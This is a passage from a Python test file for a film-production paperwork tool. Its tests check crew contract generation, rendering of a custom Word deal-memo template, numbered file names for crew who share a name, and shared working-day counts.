    docs = build_contracts(BuildJob(p, date(2026, 11, 29), d))
    assert not d.has_errors and not [i for i in d if i.code.startswith(("contract", "below"))]
    assert len(docs) == len(p.crew) + 1


def test_a_company_word_template_can_use_the_documented_fields(tmp_path: Path) -> None:
    """A user's own company-memo.docx, found before the bundled folder, renders our context."""
    from docx import Document

    from paperwork.render.docx import docx_text, render_docx
    from paperwork.render.templates import TemplateSet
    from paperwork.resources import templates_dir

    folder = tmp_path / "mine"
    folder.mkdir()
    memo = Document()
    memo.add_paragraph("Deal memo for {{ crew_name }} ({{ engaged_party }}), {{ rate_line }}")
    table = memo.add_table(rows=3, cols=2)
    table.cell(0, 0).text = "{%tr for line in pay_lines %}"
    table.cell(1, 0).text = "{{ line.label }}"
    table.cell(1, 1).text = "{{ line.amount }}"
    table.cell(2, 0).text = "{%tr endfor %}"
    memo.add_paragraph("Total {{ estimated_total }}; signed for {{ letterhead.company }}")
    memo.save(str(folder / "company-memo.docx"))

    (tmp_path / "show").mkdir()
    docs, _ = _build(_production(tmp_path / "show"))
    doc = dataclasses.replace(docs[0], template="company-memo")
    text = docx_text(render_docx(doc, TemplateSet([folder, templates_dir()])))
    assert "Deal memo for Seán O'Neill (O'Neill & Sons Ltd (company no. 11223344)" in text
    assert "6th days | £2,250.00" in text and "Total £10,185.00" in text
    assert "signed for Test Pictures Ltd" in text


def test_two_crew_of_one_name_get_two_contract_files(tmp_path: Path) -> None:
    """Two people whose names make one file name: the second stem is numbered, not overwritten."""
    second = "Jo Blöggs,Best Boy,Lighting,jo2@example.com,2027-03-01,2027-03-12,5,250,daily,,,,,,,,PAYE,,,,\n"
    docs, _ = _build(_production(tmp_path, rows=ROWS + second))
    assert [doc.stem for doc in docs if doc.template == "crew_contract"][-2:] == [
        "contract_jo-bloggs_2027-02-01",
        "contract_jo-bloggs-2_2027-02-01",
    ]


def test_crew_on_the_same_dates_and_terms_share_one_count_of_working_days(demo: Path) -> None:
    """The working days of a deal are counted once per (dates, pattern, terms): two of the
    demo's crew on the same dates get the same object, equal to a fresh count."""
    from paperwork.costing.sums import deal_days

    p = read_production(demo, Diagnostics())
    assert p is not None
    deals = [m.deal for m in p.crew if m.deal is not None]
    key = lambda d: (d.start, d.end, d.days_per_week)  # noqa: E731
    same = [(a, b) for a in deals for b in deals if a is not b and key(a) == key(b)]
    assert same, "the demo has no two crew on the same dates"
    a, b = same[0]
    terms = TERMS
    assert deal_days(a, terms) is deal_days(b, terms)
    fresh = working_days(a.start, a.end, a.days_per_week, terms.bank_holidays)
    assert deal_days(a, terms) == fresh
    other = next(d for d in deals if key(d) != key(a))
    assert deal_days(other, terms) == working_days(
        other.start, other.end, other.days_per_week, terms.bank_holidays
    )
